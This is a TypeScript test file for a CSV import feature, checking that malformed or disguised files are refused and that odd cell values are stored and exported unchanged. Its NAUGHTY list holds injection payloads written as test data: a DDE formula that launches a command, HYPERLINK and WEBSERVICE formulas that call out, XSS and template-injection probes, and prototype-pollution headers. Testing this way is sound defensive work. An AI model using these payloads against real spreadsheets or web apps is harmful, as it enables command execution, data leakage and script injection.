/** Hostile and broken files (docs/failure-modes.md, "Bad input", the rows about sheets): refused whole with a reason, or kept as they came. */
import { describe, expect, test } from 'vitest';
import { refusalWords } from '../../src/lib/messages/sheets/refusals';
import { checkFile, MAX_FILE_BYTES, planImport, readSheet, SheetRefusal } from '../../src/lib/sheet';
import type { RefusalCode } from '../../src/lib/sheet';
import {
	bytesOf,
	change,
	exported,
	exportedText,
	importBytes,
	importText,
	textOf,
	TODAY
} from '../support/sheets';

function refusal(run: () => unknown): SheetRefusal {
	try {
		run();
	} catch (error) {
		if (error instanceof SheetRefusal) return error;
		throw error;
	}
	throw new Error('nothing was refused');
}

const latin = (...bytes: number[]) => new Uint8Array(bytes);

describe('refused whole, with the reason and what to do', () => {
	test.each<[string, Uint8Array, RefusalCode]>([
		['an empty file', new Uint8Array(), 'no-rows'],
		['only a mark', latin(0xef, 0xbb, 0xbf), 'no-rows'],
		['only newlines', bytesOf('\n\r\n\n'), 'no-rows'],
		['a PNG named .csv', latin(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10), 'picture'],
		['a JPEG', latin(0xff, 0xd8, 0xff, 0xe0), 'picture'],
		['a workbook named .csv', latin(0x50, 0x4b, 3, 4, 0, 0), 'workbook'],
		['an old workbook', latin(0xd0, 0xcf, 0x11, 0xe0, 0xa1), 'workbook'],
		[
			'an HTML table named .xls',
			bytesOf('<html><body><table><tr><td>a</td></tr></table></body></html>'),
			'html'
		],
		['a PDF', bytesOf('%PDF-1.7\n'), 'not-text'],
		['data in JSON', bytesOf('{"format": "backup", "payload": {}}'), 'not-text'],
		['a list in JSON', bytesOf('[\n {"company": "Acme"}\n]'), 'not-text'],
		['address cards', bytesOf('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dana Ruiz\r\nEND:VCARD\r\n'), 'not-text'],
		['a calendar', bytesOf('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'), 'not-text'],
		['a text document', bytesOf('{\\rtf1\\ansi Company}'), 'not-text'],
		['noise', Uint8Array.from({ length: 600 }, (_, at) => (at * 7) % 29), 'not-text'],
		['an unclosed quote', bytesOf(`a,b\n"open,x\n${'c,d\n'.repeat(998)}`), 'unclosed-quote'],
		['a million columns', bytesOf(`${'a,'.repeat(1_000_000)}a\n1\n`), 'too-many-columns'],
		['50,000 equal headers', bytesOf(`${'Company,'.repeat(50_000)}Company\n`), 'too-many-columns'],
		['one enormous cell', bytesOf(`Company,Notes\nAcme,${'x'.repeat(150_000)}\n`), 'cell-too-long']
	])('%s', (_, bytes, code) => {
		const refused = refusal(() => readSheet(bytes));
		expect(refused.code).toBe(code);
		expect(refusalWords(refused)).toMatch(/^[A-Z].*\. Nothing was imported or changed\. [A-Z].*\.$/);
	});

	test.each<[string, string, number]>([
		['an unclosed quote', `a,b\n"open,x\n${'c,d\n'.repeat(998)}`, 2],
		['an unclosed quote behind a cell of two lines', 'a,b\n"one\ntwo",x\nc,"open\n', 4],
		['too many columns', `Company\nAcme${',x'.repeat(600)}\n`, 2],
		['a cell too long', `Company,Notes\n\nAcme,${'x'.repeat(150_000)}\n`, 3]
	])('%s: the line is named', (_, text, line) => {
		const refused = refusal(() => readSheet(bytesOf(text)));
		expect(refused.facts.line).toBe(line);
		expect(refusalWords(refused)).toMatch(new RegExp(`\\b[Ll]ine ${line}\\b`));
	});

	test('a header alone has no rows to import', () => {
		const reading = readSheet(bytesOf('Company,Role\n'));
		expect(refusal(() => planImport(reading, { newId: () => 'x', importedOn: TODAY })).code).toBe('no-rows');
	});

	test('a file over 50 MB, by its size alone', () => {
		expect(refusal(() => checkFile(2 ** 31)).code).toBe('too-large');
		expect(() => checkFile(MAX_FILE_BYTES)).not.toThrow();
	});
});

/** Cells that must be stored as they came and come back in a round trip. */
const NAUGHTY = [
	'=1+1',
	"'=1+1",
	'=1+1\nnote',
	'+49 151 234',
	'-5',
	'@handle',
	'\t=1',
	' =1',
	'\ufeff=1',
	'＝HYPERLINK("x")',
	'=HYPERLINK("http://e/?"&A1,"x")',
	"=cmd|'/c calc'!A1",
	'=WEBSERVICE("http://e")',
	'a;=1',
	'007',
	'1e5',
	'TRUE',
	'9007199254740993',
	'Infinity',
	'-0',
	'<script>alert(1)</script>',
	'{{7*7}}',
	'${7*7}',
	'%s%n',
	'javascript:alert(1)',
	'__proto__',
	'constructor',
	'\u202egpj.exe',
	'a\u200bb',
	'e\u0301',
	'\u0007\u001b[31m',
	'a\u2028b\u0085c',
	'👩‍👩‍👧‍👦'.repeat(50),
	'Z̴̗̈́a̵l̶g̷o̸',
	'مرحبا'
];

describe('kept as it came', () => {
	test.each(NAUGHTY)('%j in the notes', (text) => {
		const sheet = `Company,Role,Notes\nAcme,Dev,"${text.replaceAll('"', '""')}"\n`;
		const trial = importText(sheet, { headerRow: 0, meanings: new Map([[2, 'notes']]) });
		expect(trial.plan.leads[0]!.notes).toBe(text);
		expect(exportedText(trial)).toBe(sheet);
		change(trial, 0, (lead) => ({ ...lead, role: 'QA' }));
		expect(exportedText(trial)).toBe(sheet.replace(',Dev,', ',QA,'));
	});

	test('a lone surrogate is made well formed for the app, and stays in the file', () => {
		const bytes = latin(
			0xff,
			0xfe,
			...[...'Company\tRole\n'].flatMap((letter) => [letter.charCodeAt(0), 0]),
			0x41,
			0,
			0,
			0xd8,
			9,
			0,
			0x42,
			0,
			10,
			0
		);
		const trial = importBytes(bytes);
		expect(trial.plan.leads[0]!.organisation).toBe('A\ufffd');
		expect(trial.reading.problems).toMatchObject([
			{ kind: 'broken-text', row: 1, column: 0, text: 'A\ufffd' }
		]);
		expect([...exported(trial).bytes]).toEqual([...bytes]);
	});

	test('a header called __proto__ changes no prototype', () => {
		const trial = importText('__proto__,Company,__proto__\n{"isAdmin":1},Acme,x\n', { headerRow: 0 });
		expect(trial.plan.leads[0]!.organisation).toBe('Acme');
		expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
		expect(trial.reading.columns.map(({ label }) => label)).toEqual([
			'__proto__ (1)',
			'Company',
			'__proto__ (2)'
		]);
	});

	test('status words called like properties of objects are words', () => {
		const { reading } = importText('Company,Status\nA,constructor\nB,__proto__\nC,Applied\n', {
			headerRow: 0
		});
		expect(reading.statuses.map(({ word, stage }) => [word, stage])).toEqual([
			['constructor', null],
			['__proto__', null],
			['Applied', 'applied']
		]);
	});
});

describe('shapes of files', () => {
	test.each<[string, string, number]>([
		['mixed line ends', 'Company,Role\r\nA,x\nB,y\rC,z\r\n', 3],
		['lone CR', 'Company,Role\rA,x\rB,y\r', 2],
		['no final newline', 'Company,Role\nA,x\nB,y', 2],
		['five final newlines', 'Company,Role\nA,x\nB,y\n\n\n\n\n', 2],
		['blank lines inside', 'Company,Role\n\nA,x\n\n\nB,y\n', 2],
		['a sep= line', 'sep=;\nCompany;Role\nA, b;x\nC;y\n', 2],
		['more cells than the header', 'Company,Role\nA,x,extra\nB,y\n', 2],
		['fewer cells', 'Company,Role\nA\nB,y\n', 2],
		['a stray quote', 'Company,Role\n"A"a,x\nB,y\n', 2],
		['one column', 'Company\nA\nB\n', 2]
	])('%s', (_, text, leads) => {
		const trial = importText(text);
		expect(trial.plan.leads).toHaveLength(leads);
		expect(exportedText(trial)).toBe(text);
	});

	test.each([
		[';', 'Company;Role;Notes\nAcme, Inc.;Dev, senior;one, two, three\nGlobex, Ltd.;QA, junior;four, five\n'],
		['\t', 'Company\tRole\tNotes\nAcme, Inc.\tDev\tone, two; three\nGlobex\tQA\tx\n'],
		['|', 'Company|Role|Status\nAcme, Inc.|Dev|Applied\nGlobex|QA, x|Rejected\n'],
		[',', 'Company,Role,Notes\nAcme,Dev,a;b;c\nGlobex,QA,d;e;f\n']
	])('the delimiter %j is found', (delimiter, text) => {
		expect(importText(text).reading.delimiter).toBe(delimiter);
	});

	test.each([
		['utf-16le', true],
		['utf-16le', false],
		['utf-16be', true],
		['utf-16be', false]
	] as const)('%s (mark: %s) is decoded, and comes back', (encoding, mark) => {
		const text = 'Company\tRole\nMüller\tDev\n';
		const little = encoding === 'utf-16le';
		const units = [...(mark ? '\ufeff' : ''), ...text].map((letter) => letter.charCodeAt(0));
		const bytes = new Uint8Array(
			units.flatMap((unit) => (little ? [unit & 255, unit >> 8] : [unit >> 8, unit & 255]))
		);
		const trial = importBytes(bytes);
		expect([trial.reading.encoding, trial.reading.bom]).toEqual([encoding, mark]);
		expect(trial.plan.leads[0]!.organisation).toBe('Müller');
		expect([...exported(trial).bytes]).toEqual([...bytes]);
	});

	test('100,000 rows are read, previewed and counted, without being imported', () => {
		const reading = readSheet(
			bytesOf(`Company,Role,Date Applied,Status\n${'Acme,Dev,2026-01-05,Applied\n'.repeat(100_000)}`)
		);
		expect(reading.rowCount).toBe(100_000);
		expect(reading.preview(2)).toEqual([
			['Acme', 'Dev', '2026-01-05', 'Applied'],
			['Acme', 'Dev', '2026-01-05', 'Applied']
		]);
		expect(refusal(() => planImport(reading, { newId: () => 'x', importedOn: TODAY })).code).toBe(
			'too-many-leads'
		);
	});

	test('the same bytes read twice give the same reading', () => {
		const bytes = bytesOf('Company,Role,Status\nA,x,Applied\n');
		expect(importBytes(bytes).plan).toEqual(importBytes(bytes).plan);
		expect(textOf(bytes)).toBe('Company,Role,Status\nA,x,Applied\n');
	});
});

test('headers that every object has a field of mean nothing', () => {
	const names = [
		...Object.getOwnPropertyNames(Object.prototype),
		...Object.getOwnPropertyNames(Array.prototype)
	];
	const { columns } = readSheet(
		bytesOf(`Company,${names.join(',')}\nNorthwind${',x y'.repeat(names.length)}\n`)
	);
	for (const { header, meaning } of columns.slice(1))
		expect([header, typeof meaning]).not.toEqual([header, 'function']);
	expect(columns.find(({ header }) => header === 'constructor')?.meaning).toBeNull();
});
